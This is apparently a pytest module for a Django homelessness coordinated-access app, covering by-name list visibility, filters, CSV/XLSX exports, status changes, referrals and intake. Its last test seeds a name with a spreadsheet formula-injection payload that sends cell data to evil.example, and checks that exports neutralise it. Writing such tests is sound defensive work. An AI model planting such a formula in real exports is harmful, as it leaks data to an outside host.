"""Pages of the by-name list: who sees what, filters, sort, export, status changes, contacts, monthly flow."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ancrage.access import services
from ancrage.access.models import ByNameEntry, ByNameStatus, Referral
from ancrage.access.tests.factories import consent_for_access, make_entry, make_referral
from ancrage.core import clock
from ancrage.core.models import AuditEntry
from ancrage.core.permissions import Role
from ancrage.people.tests.factories import make_participant, member

pytestmark = pytest.mark.django_db


def today() -> datetime.date:
    """Today when the test runs (a module constant went stale when a run crossed midnight)."""
    return clock.today()


LIST = reverse("access:by_name_list")
EXPORT = reverse("access:by_name_export")


def _rows(response) -> list[str]:
    return [e.participant.legal_last_name for e in response.context["page"]]


def _csv(response, delimiter=";") -> list[list[str]]:
    """A CSV export: `;` in French (the default), `,` in English."""
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


@pytest.fixture
def two_lists(case_manager_a, case_manager_b, org_a, org_b):
    """Abel (chronic, active) and Zorro (housed) in A; Bélanger in B, not shared with A."""
    abel = make_entry(
        case_manager_a, org_a, legal_last_name="Abel", entered_on=today() - datetime.timedelta(days=3)
    )
    services.living_situation_record(
        actor=case_manager_a,
        participant=abel.participant,
        kind="homeless_sheltered",
        starts_on=today() - datetime.timedelta(days=211),
    )
    zorro = make_entry(
        case_manager_a, org_a, legal_last_name="Zorro", entered_on=today() - datetime.timedelta(days=30)
    )
    services.by_name_status_change(
        actor=case_manager_a, entry=zorro, status=ByNameStatus.HOUSED, reason="Logé"
    )
    other = make_entry(case_manager_b, org_b, legal_last_name="Bélanger")
    return {"abel": abel, "zorro": zorro, "other": other}


def test_outsider_and_roles_without_the_permission(client_for, outsider, org_a, two_lists):
    assert client_for(outsider).get(LIST).status_code == 403
    assert client_for(member(org_a, Role.PEER_SUPPORT)).get(EXPORT).status_code == 403


def _english(user):
    user.language = "en"
    user.save()
    return user


def test_list_shows_only_visible_people_with_words_and_reasons(client_for, case_manager_a, two_lists):
    _english(case_manager_a)
    response = client_for(case_manager_a).get(LIST, {"status": "", "sort": "entered_on"})
    assert response.status_code == 200
    assert _rows(response) == ["Zorro", "Abel"]  # longest on the list first
    html = response.content.decode()
    assert "Bélanger" not in html
    assert "Housed" in html
    assert "Active" in html
    assert "212 days homeless in the past year (threshold: 180)" in html
    assert reverse("people:detail", args=[two_lists["abel"].participant_id]) in html


def test_consent_opens_the_list_to_another_organisation(
    client_for, case_manager_a, case_manager_b, org_b, two_lists
):
    consent_for_access(case_manager_a, two_lists["abel"].participant, [org_b])
    assert sorted(_rows(client_for(case_manager_b).get(LIST))) == ["Abel", "Bélanger"]


def test_filters_and_sort(client_for, case_manager_a, org_a, two_lists):
    c = client_for(case_manager_a)
    every = {"status": ""}
    assert _rows(c.get(LIST, {"chronic": "yes"})) == ["Abel"]
    assert _rows(c.get(LIST, {**every, "chronic": "no"})) == ["Zorro"]
    assert _rows(c.get(LIST, {"chronic": "no"})) == []  # active people only, unless asked
    assert _rows(c.get(LIST, {"status": "housed"})) == ["Zorro"]
    assert _rows(
        c.get(LIST, {**every, "organisation": org_a.pk, "worker": case_manager_a.pk, "sort": "entered_on"})
    ) == ["Zorro", "Abel"]
    assert _rows(c.get(LIST, {**every, "sort": "name"})) == ["Abel", "Zorro"]
    assert _rows(c.get(LIST, {**every, "sort": "-entered_on"})) == ["Abel", "Zorro"]
    response = c.get(LIST, {"sort": "name"})
    assert 'aria-sort="ascending"' in response.content.decode()


def test_bad_filter_values_are_ignored(client_for, case_manager_a, two_lists):
    c = client_for(case_manager_a)
    response = c.get(
        LIST, {"status": "nope", "worker": "x", "organisation": "999999", "sort": "evil", "chronic": "?"}
    )
    assert response.status_code == 200
    # Not a status: everybody; not a sort: by rank (nobody is ranked here, so in the entries' order).
    assert _rows(response) == ["Abel", "Zorro"]


def test_htmx_gets_only_the_results(client_for, case_manager_a, two_lists):
    response = client_for(case_manager_a).get(
        LIST, {"chronic": "yes"}, headers={"HX-Request": "true", "HX-Target": "results"}
    )
    html = response.content.decode()
    assert "<html" not in html
    assert "Abel" in html
    assert "Zorro" not in html


def _list_queries(client) -> int:
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(LIST, {"sort": "reference_worker"}).status_code == 200
    return len(ctx.captured_queries)


def test_the_page_costs_the_same_queries_for_5_and_30_entries(client_for, case_manager_a, org_a, settings):
    settings.ANCRAGE = {**settings.ANCRAGE, "PAGE_SIZE": 50}
    c = client_for(case_manager_a)
    for i in range(5):
        make_entry(case_manager_a, org_a, legal_first_name=f"P{i}", worker=member(org_a))
    small = _list_queries(c)
    for i in range(5, 30):
        make_entry(case_manager_a, org_a, legal_first_name=f"P{i}", worker=member(org_a))
    assert _list_queries(c) == small


def test_export_is_limited_to_visible_filtered_rows_and_audited(client_for, case_manager_a, two_lists):
    _english(case_manager_a)
    response = client_for(case_manager_a).get(EXPORT, {"status": "active", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv(response, ",")
    assert rows[0][:4] == ["Rank", "Priority score", "Priority policy version", "Name"]
    assert len(rows) == 2
    assert rows[1][3].endswith("Abel")
    assert "Yes" in rows[1]
    assert "Bélanger" not in response.content.decode()
    entry = AuditEntry.objects.get(action="access.by_name_list.exported")
    assert entry.actor == case_manager_a
    assert entry.data["rows"] == 1


def test_export_as_a_spreadsheet(client_for, case_manager_a, two_lists):
    from openpyxl import load_workbook

    response = client_for(case_manager_a).get(EXPORT, {"format": "xlsx", "chronic": "yes"})
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][3] == "Nom"
    assert len(rows) == 2
    assert rows[1][3].endswith("Abel")
    assert rows[1][rows[0].index("Jours en itinérance dans la dernière année")] == 212
    assert AuditEntry.objects.get(action="access.by_name_list.exported").data["format"] == "xlsx"


def test_export_headers_in_french(client_for, case_manager_a, two_lists):
    response = client_for(case_manager_a).get(EXPORT, {"format": "csv"})
    header = _csv(response)[0]
    assert header[0] == "Rang"
    assert header[3] == "Nom"


def test_status_change_with_reason(client_for, case_manager_a, two_lists):
    abel = two_lists["abel"]
    url = reverse("access:status_change", args=[abel.participant_id])
    c = client_for(case_manager_a)
    assert c.get(url).status_code == 200
    response = c.post(url, {"status": "housed", "on": today().isoformat(), "reason": "Logement trouvé"})
    assert response.status_code == 302
    abel.refresh_from_db()
    assert abel.status == ByNameStatus.HOUSED
    assert abel.changes.last().reason == "Logement trouvé"


def test_status_change_errors_keep_answers(client_for, case_manager_a, two_lists):
    zorro = two_lists["zorro"]
    url = reverse("access:status_change", args=[zorro.participant_id])
    response = client_for(case_manager_a).post(
        url,
        {"status": "active", "on": today().isoformat(), "reason": "Revenu au refuge", "reference_worker": ""},
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert "reference_worker" in form.errors
    assert "Revenu au refuge" in response.content.decode()
    response = client_for(case_manager_a).post(
        url, {"status": "housed", "on": today().isoformat(), "reason": "x"}
    )
    assert "status" in response.context["form"].errors  # already housed: the service's error, by its field
    zorro.refresh_from_db()
    assert zorro.status == ByNameStatus.HOUSED


def test_status_change_active_needs_reason_and_future_dates_refused(client_for, case_manager_a, two_lists):
    url = reverse("access:status_change", args=[two_lists["abel"].participant_id])
    tomorrow = (today() + datetime.timedelta(days=1)).isoformat()
    response = client_for(case_manager_a).post(url, {"status": "housed", "on": tomorrow, "reason": ""})
    errors = response.context["form"].errors
    assert "reason" in errors
    response = client_for(case_manager_a).post(url, {"status": "housed", "on": tomorrow, "reason": "Logé"})
    assert "on" in response.context["form"].errors


def test_entries_the_user_may_not_see_are_404(client_for, case_manager_a, two_lists):
    other = two_lists["other"].participant_id
    before = two_lists["other"].last_contact_on
    c = client_for(case_manager_a)
    assert c.get(reverse("access:status_change", args=[other])).status_code == 404
    assert (
        c.post(reverse("access:contact_record", args=[other]), {"on": today().isoformat()}).status_code == 404
    )
    assert ByNameEntry.objects.get(participant_id=other).last_contact_on == before


def test_record_a_contact(client_for, case_manager_a, two_lists):
    abel = two_lists["abel"]
    url = reverse("access:contact_record", args=[abel.participant_id])
    c = client_for(case_manager_a)
    future = (today() + datetime.timedelta(days=2)).isoformat()
    response = c.post(url, {"on": future})
    assert response.status_code == 200
    assert "on" in response.context["form"].errors
    assert c.post(url, {"on": today().isoformat()}).status_code == 302
    abel.refresh_from_db()
    assert abel.last_contact_on == today()


def test_monthly_flow_page(client_for, case_manager_a, two_lists):
    response = client_for(case_manager_a).get(reverse("access:flow"))
    assert response.status_code == 200
    months = response.context["months"]
    assert len(months) == 12
    # One person of each: counts too small to show (SMALL_COUNT_THRESHOLD), kept but hidden.
    assert months[-1]["c"]["actively_homeless"].hidden == "small"
    assert months[-1]["c"]["housed"].hidden == "small"
    html = response.content.decode()
    assert 'id="flow-data" type="application/json"' in html
    assert "flow-chart.js" in html
    assert "<table" in html


# --- referrals and the start of an intake ---------------------------------------------------------------


def test_referrals_of_my_organisation_only(client_for, case_manager_a, case_manager_b):
    mine = make_referral(case_manager_a, person_name="Marc Leduc")
    theirs = make_referral(case_manager_b, person_name="Paul Autre")
    c = client_for(case_manager_a)
    html = c.get(reverse("access:referral_list")).content.decode()
    assert "Marc Leduc" in html
    assert "Paul Autre" not in html
    assert c.get(reverse("access:intake_start", args=[theirs.pk])).status_code == 404
    assert c.get(reverse("access:intake_start", args=[mine.pk])).status_code == 200


def test_new_referral_keeps_answers_on_error_then_leads_to_the_search(client_for, case_manager_a):
    c = client_for(case_manager_a)
    url = reverse("access:referral_create")
    data = {"person_name": "Marc Leduc", "source_kind": "shelter", "source_name": "Refuge", "reason": ""}
    response = c.post(url, data)
    assert response.status_code == 200
    assert "reason" in response.context["form"].errors
    assert "Refuge" in response.content.decode()
    response = c.post(
        url,
        {**data, "reason": "Dort dehors", "organisation": case_manager_a.primary_membership.organisation_id},
    )
    referral = Referral.objects.get()
    assert response["Location"] == reverse("access:intake_start", args=[referral.pk])
    assert referral.reason == "Dort dehors"


def test_intake_searches_only_visible_files_and_needs_consent(
    client_for, case_manager_a, case_manager_b, org_a, org_b
):
    visible = make_participant(case_manager_a, org_a, legal_first_name="Marc", legal_last_name="Leduc")
    hidden = make_participant(case_manager_b, org_b, legal_first_name="Marc", legal_last_name="Leduc")
    referral = make_referral(case_manager_a, person_name="Marc Leduc")
    url = reverse("access:intake_start", args=[referral.pk])
    c = client_for(case_manager_a)
    response = c.get(url)
    found = [m.participant for m in response.context["matches"]]
    assert found == [visible]
    assert c.post(url, {"participant": hidden.pk}).status_code == 404
    # Without a coordinated-access consent, the intake does not start and the page says why.
    response = c.post(url, {"participant": visible.pk}, follow=True)
    assert "consent" in response.content.decode()
    referral.refresh_from_db()
    assert referral.status == Referral.Status.RECEIVED
    consent_for_access(case_manager_a, visible, [org_a])
    response = c.post(url, {"participant": visible.pk})
    assert response["Location"] == reverse("access:intake_detail", args=[referral.intake.pk])
    referral.refresh_from_db()
    assert referral.status == Referral.Status.INTAKE_STARTED
    assert referral.participant == visible


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_control_characters_in_names(
    client_for, case_manager_a, org_a, export_format
):
    """A name typed as a formula is written as text; an escape character no longer makes it answer 500."""
    from openpyxl import load_workbook

    make_entry(case_manager_a, org_a, legal_first_name="Jean\x1bGuy", legal_last_name="Abel")
    make_entry(
        case_manager_a,
        org_a,
        legal_first_name='=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
        legal_last_name="Zed",
    )
    response = client_for(case_manager_a).get(EXPORT, {"format": export_format})
    assert response.status_code == 200
    if export_format == "csv":
        names = [row[3] for row in _csv(response)[1:]]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        names = [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(names) == 2
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    assert any("Jean Guy" in name for name in names)
